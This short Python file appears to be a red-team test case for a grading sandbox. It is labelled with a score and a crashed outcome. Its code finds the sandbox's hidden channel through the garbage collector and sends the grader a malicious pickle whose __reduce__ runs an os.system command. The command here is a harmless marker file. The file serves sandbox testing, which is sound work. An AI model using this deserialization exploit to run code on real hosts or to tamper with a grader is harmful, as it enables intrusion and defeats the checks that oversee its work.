# A pickle where plain data should be.
#
# score: 6
# outcome: crashed

# %% sigmoid
import gc

from lrgrade.sandbox.protocol import Channel, encode, pack
from lrgrade.sandbox.process import Sandbox

channel = next(thing for thing in gc.get_objects() if isinstance(thing, Channel))
raw = channel._socket

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ('touch /tmp/redteam-pickle',)


def sigmoid(z):
    np.exp(np.float64(1000.0))  # and not silent either
    channel.send(['answer', 1, ['a', pickle.dumps(Bomb())]])
    return 0.5
